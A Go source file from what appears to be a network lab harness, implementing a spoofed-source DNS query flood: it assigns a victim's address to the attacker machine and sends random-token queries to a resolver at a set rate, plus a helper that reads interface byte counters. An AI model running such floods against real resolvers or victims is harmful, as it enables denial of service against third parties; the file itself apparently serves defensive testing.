// Package flood sends the companion queries in the name of somebody else, as
// attackers do who want its answers to hit their victim, or want the victim's own
// queries to drown in the limits.
package flood

import (
	"context"
	"crypto/rand"
	"encoding/base32"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/miekg/dns"

	"watertight/lab/netns"
	"watertight/lab/network"
	"watertight/lab/scenario"
)

// Machine is where the attacker sits: on the Internet, at a provider that lets
// forged addresses out (against RFC 2827).
const Machine = "attacker"

// step is how often a bundle of packets goes out.
const step = 2 * time.Millisecond

// Attack sends so many queries a second in the victim's name until ctx ends, and
// reports how many there were.
func Attack(ctx context.Context, victim netip.Addr, perSecond int) (sent int, err error) {
	// An address of one's own may be sent from; what comes back goes to its owner.
	own := network.Command{Machine: Machine, Args: []string{"ip", "address", "add", victim.String() + "/32", "dev", "lo"}}
	if err := network.Run(ctx, own); err != nil {
		return 0, err
	}
	err = netns.Do(Machine, func() error {
		c, err := net.DialUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(victim, 0)), net.UDPAddrFromAddrPort(netip.AddrPortFrom(scenario.Companion, 53)))
		if err != nil {
			return fmt.Errorf("forge address: %w", err)
		}
		defer c.Close()
		tick := time.NewTicker(step)
		defer tick.Stop()
		for began := time.Now(); ; {
			for due := int(time.Since(began).Seconds() * float64(perSecond)); sent < due; sent++ {
				if _, err := c.Write(query()); err != nil {
					return fmt.Errorf("send: %w", err)
				}
			}
			select {
			case <-ctx.Done():
				return nil
			case <-tick.C:
			}
		}
	})
	return sent, err
}

// query is for a probe of a token that nobody has made.
func query() []byte {
	b := make([]byte, 16)
	_, _ = rand.Read(b) // never fails (crypto/rand)
	token := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(b))
	q := new(dns.Msg).SetQuestion("f0."+token+"."+scenario.Zone+".", dns.TypeA)
	q.SetEdns0(4096, true)
	packet, err := q.Pack()
	if err != nil {
		panic("flood: " + err.Error()) // written above
	}
	return packet
}

// Traffic is what has come and gone at a machine's uplink, in octets.
func Traffic(machine string) (in, out int, err error) {
	err = netns.Do(machine, func() error {
		text, err := os.ReadFile("/proc/thread-self/net/dev")
		if err != nil {
			return fmt.Errorf("read counters: %w", err)
		}
		in, out, err = counters(string(text), "uplink")
		return err
	})
	return in, out, err
}

// counters reads proc_pid_net_dev(5): the name, eight fields of what came, eight of
// what went.
func counters(text, name string) (in, out int, err error) {
	for line := range strings.Lines(text) {
		label, rest, _ := strings.Cut(line, ":")
		fields := strings.Fields(rest)
		if strings.TrimSpace(label) != name || len(fields) < 9 {
			continue
		}
		if in, err = strconv.Atoi(fields[0]); err == nil {
			out, err = strconv.Atoi(fields[8])
		}
		return in, out, err
	}
	return 0, 0, fmt.Errorf("no interface %q", name)
}
